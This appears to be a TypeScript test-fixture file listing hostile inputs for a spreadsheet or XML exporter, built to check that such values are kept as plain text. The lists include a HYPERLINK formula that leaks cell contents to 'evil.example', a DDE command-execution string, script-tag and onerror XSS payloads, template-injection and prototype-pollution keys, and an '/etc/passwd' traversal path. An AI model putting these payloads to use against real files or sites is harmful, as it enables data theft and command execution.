const ZERO_WIDTH = "\u200B";
const CODES = (...codes: readonly number[]) => String.fromCharCode(...codes);

/** What a spreadsheet reads as a formula, a number, a date or an error when it is typed. */
export const MISTAKABLE: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=1+1",
  " =1+1",
  "\t=1+1",
  "\n=1+1",
  "\u00A0=1+1",
  `${ZERO_WIDTH}=1+1`,
  "\uFEFF=1+1",
  "＝1+1",
  "﹦1+1",
  "+1-617-555-0100",
  "＋1-617",
  "-2+3",
  "−2+3",
  "@SUM(A1:A9)",
  "＠x",
  "=cmd|'/C calc'!A0",
  "|calc",
  "%0A=1+1",
  '"=1+1"',
  "'=1+1",
  "{=1+1}",
  "Sep-24",
  "00123",
  "1E5",
  "1/2",
  "12:30",
  "TRUE club",
  "VERDADERO",
  "$5",
  "5%",
  "R1C1",
  "A1",
];

/** What breaks XML, a page or an object where it is not kept as text. */
export const BREAKING: readonly string[] = [
  "</t></is></c><f>1+1</f>",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "]]><evil/><![CDATA[",
  "<!-- x --> & &amp; &lt; &#0; &evil;",
  "\"quotes\" and 'apostrophes'",
  "_x0041_ and _x003D_1+1",
  "javascript:alert(1)",
  "{{constructor.constructor('x')()}}",
  "${7*7}",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "../../etc/passwd",
  "\u202Eevil\u202C",
  "\u200Fright to left",
  "\u2066isolated\u2069",
  `bell${CODES(7)} and null${CODES(0)} and escape${CODES(27)}`,
  `half ${CODES(0xd800)} of a pair`,
  `other half ${CODES(0xdc00)}`,
  `no character ${CODES(0xfffe)}${CODES(0xffff)}`,
  "line\r\nbreaks\rof\nall kinds\u2028\u2029",
  "tab\tinside",
  "e\u0301 and é",
  "👩‍👩‍👧‍👦 family",
  "z̵̡͓̓a̷͔̅l̸̬͛g̷̱͝o̴̭͂",
  "[Table[#All]]",
  "It's a 'name'!A1",
];

/** As long as a cell can be, in letters, signs and pairs of surrogates. */
export const LONG: readonly string[] = [
  "L".repeat(32_767),
  "=&<\"'".repeat(6_000),
  "😀".repeat(16_000),
  "long words ".repeat(60),
];

export const HOSTILE: readonly string[] = [...MISTAKABLE, ...BREAKING, ...LONG];

/** Tab names as Excel takes them: no more than 31 letters, none of []:*?/\ and no apostrophe at the ends. */
export const HOSTILE_TABS: readonly string[] = [
  "=1+1",
  "+x",
  "@x",
  "-",
  "__proto__",
  "constructor",
  '<b>&amp;"',
  "It's ''ours''",
  "Sep-24",
  "A1",
  "R1C1",
  "TRUE",
  "\u202Eevil",
  "😀 'x'!B2",
  "M".repeat(31),
  "_x0041_",
  "CT Network",
  "CT Catalytic",
];
